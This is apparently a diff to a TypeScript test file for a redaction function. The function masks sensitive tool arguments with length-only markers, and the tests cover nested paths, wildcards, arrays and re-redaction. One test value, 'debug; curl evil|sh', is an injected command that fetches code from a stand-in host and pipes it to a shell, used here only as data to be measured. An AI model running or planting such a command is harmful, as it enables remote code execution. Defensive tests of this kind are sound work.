@@ -110,17 +110,36 @@ describe('sample catalog views', () => {
 });
 
 describe('redaction', () => {
+  /** The markers of a value of one and of two characters. */
+  const ONE = '[REDACTED: 1 character]';
+  const TWO = '[REDACTED: 2 characters]';
+
   it('redacts a declared sensitive field and nothing else', () => {
     const r = redactArgs(catalog, 'env.modifyProduction', { service: 'api', key: 'DB_PASS', value: 'hunter2' });
-    assert.deepEqual(r, { service: 'api', key: 'DB_PASS', value: REDACTED });
+    assert.deepEqual(r, { service: 'api', key: 'DB_PASS', value: '[REDACTED: 7 characters]' });
+  });
+
+  it('a redacted value is shown by its length only, so values that differ only there do not look alike', () => {
+    const shown = (value: unknown) => redactArgs(catalog, 'env.modifyProduction', { service: 'api', key: 'LOG_LEVEL', value }).value;
+    assert.equal(shown('debug'), '[REDACTED: 5 characters]');
+    assert.equal(shown('debug; curl evil|sh'), '[REDACTED: 19 characters]');
+    // Characters, not UTF-16 units; any other value by its JSON text.
+    assert.equal(shown('\u{1f600}x'), '[REDACTED: 2 characters]');
+    assert.equal(shown('x'), '[REDACTED: 1 character]');
+    assert.equal(shown({ a: [1, 2] }), '[REDACTED: 11 characters]');
+    assert.equal(shown(''), '[REDACTED: 0 characters]');
+    // Redacting again (the audit activity redacts what the workflow sends) keeps a marker as it is.
+    const once = redactArgs(catalog, 'env.modifyProduction', { service: 'api', key: 'K', value: 'hunter2' });
+    assert.deepEqual(redactArgs(catalog, 'env.modifyProduction', once), once);
+    assert.deepEqual(redactArgs(catalog, 'no.such', redactArgs(catalog, 'no.such', { a: 'abc', b: [REDACTED] })), { a: '[REDACTED: 3 characters]', b: [REDACTED] });
   });
 
   it('follows nested paths, wildcards and arrays', () => {
     const v = { auth: { token: 't', user: 'u' }, items: [{ secret: 's1', id: 1 }, { secret: 's2', id: 2 }], maps: { a: { k: 'x' }, b: { k: 'y' } } };
     assert.deepEqual(redactPaths(v, ['auth.token', 'items.secret', 'maps.*.k']), {
-      auth: { token: REDACTED, user: 'u' },
-      items: [{ secret: REDACTED, id: 1 }, { secret: REDACTED, id: 2 }],
-      maps: { a: { k: REDACTED }, b: { k: REDACTED } },
+      auth: { token: ONE, user: 'u' },
+      items: [{ secret: TWO, id: 1 }, { secret: TWO, id: 2 }],
+      maps: { a: { k: ONE }, b: { k: ONE } },
     });
     assert.deepEqual(v.auth.token, 't', 'input untouched');
     assert.deepEqual(redactPaths({ other: 1 }, ['auth.token']), { other: 1 }, 'absent paths are not added');
@@ -128,34 +147,34 @@ describe('redaction', () => {
 
   it('`*` matches each element of an array, as documented (`items.*.secret`), and any key of an object', () => {
     const v = { items: [{ secret: 'hunter2-long', id: 1 }, { secret: 'other-secret', id: 2 }], id: 'keep' };
-    assert.deepEqual(redactPaths(v, ['items.*.secret']), { items: [{ secret: REDACTED, id: 1 }, { secret: REDACTED, id: 2 }], id: 'keep' });
+    assert.deepEqual(redactPaths(v, ['items.*.secret']), { items: [{ secret: '[REDACTED: 12 characters]', id: 1 }, { secret: '[REDACTED: 12 characters]', id: 2 }], id: 'keep' });
     assert.deepEqual(secretsAt(v, ['items.*.secret']), ['hunter2-long', 'other-secret']);
     // The same path over an object of objects, and `*` at the end over an array and an object.
-    assert.deepEqual(redactPaths({ items: { a: { secret: 's', id: 1 } } }, ['items.*.secret']), { items: { a: { secret: REDACTED, id: 1 } } });
-    assert.deepEqual(redactPaths({ tokens: ['t1', 't2'], headers: { a: 'x', b: 'y' } }, ['tokens.*', 'headers.*']), { tokens: [REDACTED, REDACTED], headers: { a: REDACTED, b: REDACTED } });
+    assert.deepEqual(redactPaths({ items: { a: { secret: 's', id: 1 } } }, ['items.*.secret']), { items: { a: { secret: ONE, id: 1 } } });
+    assert.deepEqual(redactPaths({ tokens: ['t1', 't2'], headers: { a: 'x', b: 'y' } }, ['tokens.*', 'headers.*']), { tokens: [TWO, TWO], headers: { a: ONE, b: ONE } });
     assert.deepEqual(secretsAt({ tokens: ['tok-1', 'tok-2'] }, ['tokens.*']), ['tok-1', 'tok-2']);
     // Arrays in arrays: one `*` per level; a name steps through any depth of arrays.
-    assert.deepEqual(redactPaths({ grid: [[{ k: 'a' }], [{ k: 'b' }]] }, ['grid.*.*.k']), { grid: [[{ k: REDACTED }], [{ k: REDACTED }]] });
-    assert.deepEqual(redactPaths({ grid: [[{ k: 'a' }]] }, ['grid.k']), { grid: [[{ k: REDACTED }]] });
+    assert.deepEqual(redactPaths({ grid: [[{ k: 'a' }], [{ k: 'b' }]] }, ['grid.*.*.k']), { grid: [[{ k: ONE }], [{ k: ONE }]] });
+    assert.deepEqual(redactPaths({ grid: [[{ k: 'a' }]] }, ['grid.k']), { grid: [[{ k: ONE }]] });
     assert.deepEqual(v.items[0], { secret: 'hunter2-long', id: 1 }, 'input untouched');
   });
 
   it('a declared `items.*.secret` redacts each element through the catalog', () => {
     const items = z.array(z.object({ name: z.string(), secret: z.string() }));
     const vault = createCatalog([tool('vault.store', { input: z.object({ items }).strict(), sensitive: ['items.*.secret'] })], { database: pool });
-    assert.deepEqual(redactArgs(vault, 'vault.store', { items: [{ name: 'db', secret: 'hunter2-long' }] }), { items: [{ name: 'db', secret: REDACTED }] });
+    assert.deepEqual(redactArgs(vault, 'vault.store', { items: [{ name: 'db', secret: 'hunter2-long' }] }), { items: [{ name: 'db', secret: '[REDACTED: 12 characters]' }] });
   });
 
   it('redacts every string of an unknown tool, keeping shape and numbers', () => {
     assert.deepEqual(redactArgs(catalog, 'no.such', { password: 'p', nested: { n: 3, s: 'x', ok: true }, list: ['a', 2] }), {
-      password: REDACTED,
-      nested: { n: 3, s: REDACTED, ok: true },
-      list: [REDACTED, 2],
+      password: ONE,
+      nested: { n: 3, s: ONE, ok: true },
+      list: [ONE, 2],
     });
   });
 
   it('wraps arguments that are not an object, strings redacted', () => {
-    assert.deepEqual(redactArgs(catalog, 'env.modifyProduction', 'hunter2'), { value: REDACTED });
+    assert.deepEqual(redactArgs(catalog, 'env.modifyProduction', 'hunter2'), { value: '[REDACTED: 7 characters]' });
   });
 });
 
